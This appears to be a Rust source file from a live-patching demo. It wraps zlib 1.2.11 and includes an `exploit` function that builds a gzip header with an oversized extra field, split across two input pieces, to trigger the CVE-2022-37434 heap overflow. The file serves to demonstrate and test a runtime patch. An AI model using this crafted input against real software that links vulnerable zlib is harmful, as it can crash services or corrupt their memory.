//! zlib 1.2.11 as it was in 2022, compiled with an entry pad in each function: something real to
//! patch while it runs.
//!
//! [`read_header`] with the pieces of an [`exploit`] kills the process (CVE-2022-37434), until the
//! patch object [`PATCH`] is enabled. Beside the repair, the patch counts such headers
//! ([`was_attacked`]), and has another text for an error ([`error_text`]).

use core::ffi::{CStr, c_char, c_int, c_uint, c_ulong, c_void};
use core::ptr::null_mut;

/// The path of the patch object that repairs the hole.
pub const PATCH: &str = env!("KLP_DEMO_ZLIB_PATCH");

/// The functions that it replaces, with blanks between.
pub const PATCHED_FUNCTIONS: &str = env!("KLP_DEMO_ZLIB_FUNCTIONS");

/// `Z_DATA_ERROR` of zlib.h.
pub const DATA_ERROR: i32 = -3;

/// Bytes that the reader of a header has for its extra field.
pub const EXTRA_MAX: usize = 16;

const Z_OK: c_int = 0;
const Z_STREAM_END: c_int = 1;
const Z_NO_FLUSH: c_int = 0;
const Z_FINISH: c_int = 4;
const Z_DEFLATED: c_int = 8;
const Z_FIXED: c_int = 4;

/// Window bits, with 16 more for gzip's format.
const GZIP: c_int = 15 + 16;

/// `z_stream` of zlib.h.
#[repr(C)]
struct Stream {
    next_in: *const u8,
    avail_in: c_uint,
    total_in: c_ulong,
    next_out: *mut u8,
    avail_out: c_uint,
    total_out: c_ulong,
    msg: *const c_char,
    state: *mut c_void,
    zalloc: *const c_void,
    zfree: *const c_void,
    opaque: *mut c_void,
    data_type: c_int,
    adler: c_ulong,
    reserved: c_ulong,
}

/// `gz_header` of zlib.h.
#[repr(C)]
struct Header {
    text: c_int,
    time: c_ulong,
    xflags: c_int,
    os: c_int,
    extra: *mut u8,
    extra_len: c_uint,
    extra_max: c_uint,
    name: *mut u8,
    name_max: c_uint,
    comment: *mut u8,
    comm_max: c_uint,
    hcrc: c_int,
    done: c_int,
}

unsafe extern "C" {
    fn deflateInit2_(
        stream: *mut Stream,
        level: c_int,
        method: c_int,
        window_bits: c_int,
        mem_level: c_int,
        strategy: c_int,
        version: *const c_char,
        stream_size: c_int,
    ) -> c_int;
    fn deflate(stream: *mut Stream, flush: c_int) -> c_int;
    fn deflateEnd(stream: *mut Stream) -> c_int;
    fn inflateInit2_(
        stream: *mut Stream,
        window_bits: c_int,
        version: *const c_char,
        stream_size: c_int,
    ) -> c_int;
    fn inflateGetHeader(stream: *mut Stream, header: *mut Header) -> c_int;
    fn inflate(stream: *mut Stream, flush: c_int) -> c_int;
    fn inflateEnd(stream: *mut Stream) -> c_int;
    fn zError(code: c_int) -> *const c_char;
    safe fn zlibCompileFlags() -> c_ulong;
}

/// What the programs that use zlib say they were compiled for.
const VERSION: &CStr = c"1.2.11";

impl Stream {
    const SIZE: c_int = size_of::<Self>() as c_int;

    const fn new() -> Self {
        Self {
            next_in: null_mut(),
            avail_in: 0,
            total_in: 0,
            next_out: null_mut(),
            avail_out: 0,
            total_out: 0,
            msg: null_mut(),
            state: null_mut(),
            zalloc: null_mut(),
            zfree: null_mut(),
            opaque: null_mut(),
            data_type: 0,
            adler: 0,
            reserved: 0,
        }
    }

    /// Has `step` work on this stream with `input`, until it says something else than that it goes
    /// on. Returns that, and the output.
    ///
    /// # Safety
    ///
    /// `step` is a function of zlib's for a stream like this one, which was initialised.
    unsafe fn run(
        &mut self,
        step: unsafe extern "C" fn(*mut Self, c_int) -> c_int,
        flush: c_int,
        input: &[u8],
    ) -> (c_int, Vec<u8>) {
        let mut output = Vec::new();
        self.next_in = input.as_ptr();
        self.avail_in = input.len() as c_uint;
        loop {
            let mut room = [0; 512];
            self.next_out = room.as_mut_ptr();
            self.avail_out = room.len() as c_uint;
            // SAFETY: the caller's promise; the stream has the input, and room.
            let result = unsafe { step(self, flush) };
            let filled = room.len() - self.avail_out as usize;
            output.extend_from_slice(&room[..filled]);
            if result != Z_OK || filled < room.len() && self.avail_in == 0 {
                return (result, output);
            }
        }
    }
}

/// Compresses `data` with the fixed tables, in gzip's format.
///
/// # Errors
///
/// What zlib answers.
pub fn compress(data: &[u8]) -> Result<Vec<u8>, i32> {
    let mut stream = Stream::new();
    // SAFETY: the stream asks for the default allocator; the version is that of the sources.
    let result = unsafe {
        deflateInit2_(
            &raw mut stream,
            6,
            Z_DEFLATED,
            GZIP,
            8,
            Z_FIXED,
            VERSION.as_ptr(),
            Stream::SIZE,
        )
    };
    if result != Z_OK {
        return Err(result);
    }
    // SAFETY: the stream was initialised for this.
    let (result, output) = unsafe { stream.run(deflate, Z_FINISH, data) };
    // SAFETY: it was, and is not used afterwards.
    unsafe { deflateEnd(&raw mut stream) };
    (result == Z_STREAM_END).then_some(output).ok_or(result)
}

/// What a compressed file has in it.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct Contents {
    /// What of the header's extra field there was room for.
    pub extra: [u8; EXTRA_MAX],
    /// The data.
    pub data: Vec<u8>,
}

/// Decompresses a file in gzip's format that comes in `pieces`, and reads its header.
///
/// # Errors
///
/// What zlib answers.
pub fn read_header(pieces: &[&[u8]]) -> Result<Contents, i32> {
    let mut stream = Stream::new();
    // SAFETY: the stream asks for the default allocator; the version is that of the sources.
    let result = unsafe { inflateInit2_(&raw mut stream, GZIP, VERSION.as_ptr(), Stream::SIZE) };
    if result != Z_OK {
        return Err(result);
    }
    let mut extra = [0; EXTRA_MAX];
    let mut header = Header {
        text: 0,
        time: 0,
        xflags: 0,
        os: 0,
        extra: extra.as_mut_ptr(),
        extra_len: 0,
        extra_max: EXTRA_MAX as c_uint,
        name: null_mut(),
        name_max: 0,
        comment: null_mut(),
        comm_max: 0,
        hcrc: 0,
        done: 0,
    };
    // SAFETY: the header, and the room that it names, outlive the stream.
    unsafe { inflateGetHeader(&raw mut stream, &raw mut header) };
    let (mut result, mut data) = (Z_OK, Vec::new());
    for piece in pieces {
        // SAFETY: the stream was initialised for this.
        let (answer, output) = unsafe { stream.run(inflate, Z_NO_FLUSH, piece) };
        data.extend(output);
        result = answer;
    }
    // SAFETY: it was, and is not used afterwards.
    unsafe { inflateEnd(&raw mut stream) };
    (result == Z_STREAM_END)
        .then_some(Contents { extra, data })
        .ok_or(result)
}

/// Compressed `data` whose header has an extra field that is longer than its reader expects, in two
/// pieces: the second begins where there is no room any more.
///
/// # Errors
///
/// What zlib answers.
pub fn exploit(data: &[u8]) -> Result<[Vec<u8>; 2], i32> {
    const HEADER: usize = 10;
    const FLAGS: usize = 3;
    /// There is an extra field (RFC 1952, 2.3.1).
    const FEXTRA: u8 = 4;
    let compressed = compress(data)?;
    let (header, rest) = compressed.split_at(HEADER);
    let mut first = header.to_vec();
    first[FLAGS] |= FEXTRA;
    let extra: Vec<u8> = (0..200).collect();
    first.extend((extra.len() as u16).to_le_bytes());
    first.extend(&extra[..100]);
    Ok([first, [&extra[100..], rest].concat()])
}

/// What zlib calls an error.
#[must_use]
pub fn error_text(code: i32) -> String {
    // SAFETY: it answers a constant for each code that zlib has.
    unsafe { CStr::from_ptr(zError(code.clamp(-6, 2))) }
        .to_string_lossy()
        .into_owned()
}

/// Whether the repaired library has met a header like the [`exploit`]'s.
#[must_use]
pub fn was_attacked() -> bool {
    zlibCompileFlags() >> 31 != 0
}
